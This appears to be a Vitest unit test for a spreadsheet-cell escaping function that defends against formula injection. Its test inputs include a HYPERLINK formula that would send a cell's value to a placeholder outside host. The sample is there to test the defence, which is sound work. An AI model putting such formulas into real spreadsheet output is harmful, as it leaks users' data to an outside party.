import { describe, expect, it } from 'vitest';
import { spreadsheetText } from './spreadsheet-cell.js';

describe('spreadsheetText', () => {
  it('quotes every cell a spreadsheet would run as a formula', () => {
    for (const text of ['=1+1', '=HYPERLINK("http://x.example/?"&A1,"Click")', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1', '\r=1', '-', '+', '--x', '-Infinity', '-0x10', '=']) {
      expect(spreadsheetText(text)).toBe(`'${text}`);
    }
  });

  it('leaves numbers, ordinary text and the empty cell as they are', () => {
    for (const text of ['-3.5', '+2', '-0.18', '-78.47', '-.5', '1e5', '-1e-3', '42', 'Barke', 'a=b', 'x-1', ' =1', '', "'=already"]) {
      expect(spreadsheetText(text)).toBe(text);
    }
  });
});
